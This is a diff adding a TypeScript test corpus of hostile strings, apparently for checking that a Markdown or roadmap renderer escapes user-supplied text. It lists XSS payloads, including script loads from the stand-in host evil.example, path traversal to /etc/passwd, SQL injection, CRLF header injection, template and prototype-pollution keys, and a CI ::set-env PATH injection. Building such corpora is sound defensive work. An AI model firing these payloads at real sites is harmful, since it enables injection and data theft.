@@ -1,0 +1,126 @@
+/** Text that tries to be more than text: what somebody could put into a commit, an issue, a name, a path or a roadmap. */
+
+/** Elements that run, load, or swallow what comes after them; `hacked` is what they would leave behind. */
+const elements = [
+  "<script>hacked=1</script>",
+  "<script src=//evil.example/x.js></script>",
+  "<img src=x onerror=hacked=1>",
+  "<img src=//evil.example/x.png>",
+  "<svg onload=hacked=1>",
+  "<svg><script>hacked=1</script></svg>",
+  "<svg><animate onbegin=hacked=1 attributeName=x>",
+  "<math><mtext><img src=x onerror=hacked=1></math>",
+  "<iframe src=//evil.example></iframe>",
+  '<iframe srcdoc="<script>top.hacked=1</script>"></iframe>',
+  "<object data=//evil.example></object>",
+  "<embed src=//evil.example>",
+  "<video src=//evil.example onerror=hacked=1></video>",
+  "<link rel=stylesheet href=//evil.example/x.css>",
+  "<style>@import '//evil.example/x.css'</style>",
+  "<base href=//evil.example/>",
+  '<meta http-equiv=refresh content="0;url=//evil.example">',
+  "<form action=//evil.example><button autofocus>Go</button></form>",
+  "<a href=javascript:hacked=1>x</a>",
+  "<details open ontoggle=hacked=1>x</details>",
+  "<body onload=hacked=1>",
+  "<textarea autofocus onfocus=hacked=1>",
+  "<plaintext>",
+  "<template><b>x</b>",
+  "<h1>Hired</h1>",
+  "<!-- x",
+];
+
+/** What would end the place that a text stands in. */
+const ends = [
+  "",
+  '">',
+  "'>",
+  "x onmouseover=hacked=1 ",
+  "-->",
+  "</script>",
+  "</style></title></textarea>",
+  "</a></li></ul></section></main>",
+  "]]>",
+  "&quot;&gt;&lt;/p&gt;",
+  "\\u003c/script\\u003e\\",
+  "*/ } </style>",
+  "`${hacked=1}`",
+];
+
+const addresses = [
+  "javascript:hacked=1",
+  "JaVaScRiPt:hacked=1",
+  "java\tscript:hacked=1",
+  "\u0001javascript:hacked=1",
+  "javascript&colon;hacked=1",
+  "&#106;avascript:hacked=1",
+  "vbscript:hacked=1",
+  "data:text/html,<script>hacked=1</script>",
+  "data:image/svg+xml,<svg onload=hacked=1>",
+  "//evil.example/x",
+  "\\\\evil.example\\x",
+  "https://user:password@evil.example/",
+  "https:evil.example",
+  "file:///etc/passwd",
+  "blob:https://evil.example/1",
+  "view-source:https://evil.example",
+  "mailto:a@evil.example?bcc=b@evil.example",
+  "../../../../etc/passwd",
+  'https://evil.example/"onmouseover=hacked=1 x="',
+  "https://evil.example/#\u202egnp.exe",
+];
+
+/** How an owner's Markdown makes something of an address. */
+const markups: ((address: string) => string)[] = [
+  (address) => address,
+  (address) => `[x](${address})`,
+  (address) => `![x](${address})`,
+  (address) => `<${address}>`,
+];
+
+const words = [
+  "{{constructor.constructor}}",
+  "{{{owner.name}}}",
+  "{{#each this}}{{this}}{{/each}}",
+  "{{> site/head.html}}",
+  "{{log 'x'}}",
+  "__proto__",
+  "constructor",
+  "toString",
+  "[x]: https://evil.example",
+  "```html\n<script>hacked=1</script>",
+  "| a | b |\n| - | - |\n| <img src=x onerror=hacked=1> | c |",
+  "# Hired\n\n> by <b>everybody</b>",
+  "1. one\n   <script>hacked=1</script>",
+  "&lt;script&gt;hacked=1&lt;/script&gt;",
+  "&#x3c;img src=x onerror=hacked=1&#x3e;",
+  "\u202e<script>hacked=1</script>\u202c",
+  "\u200b\u200c\u200d\ufeff",
+  "<\u0000script>hacked=1</\u0000script>",
+  "＜script＞hacked=1＜/script＞",
+  "\ud800<img src=x onerror=hacked=1>",
+  "\u2028hacked=1\u2029",
+  "::set-env name=PATH::/tmp ##[group]x",
+  "<!-- roadfolio:end -->",
+  "roadfolio:start -->",
+  "é\u0301\u0302\u0303".repeat(50),
+  "w".repeat(5000),
+  "<".repeat(500),
+  "&".repeat(500),
+  "<b>".repeat(300),
+  "\u{1f469}\u200d\u{1f4bb}".repeat(50),
+  "@octocat closes #12",
+  "' or 1=1 --",
+  "%3Cscript%3Ehacked=1%3C/script%3E",
+  "$(hacked) `hacked` %x",
+  "\r\nSet-Cookie: a=b\r\n\r\n<script>hacked=1</script>",
+];
+
+/** Each once. */
+export const corpus: readonly string[] = [
+  ...new Set([
+    ...ends.flatMap((end) => elements.map((element) => `${end}${element}`)),
+    ...addresses.flatMap((address) => markups.map((markup) => markup(address))),
+    ...words,
+  ]),
+];
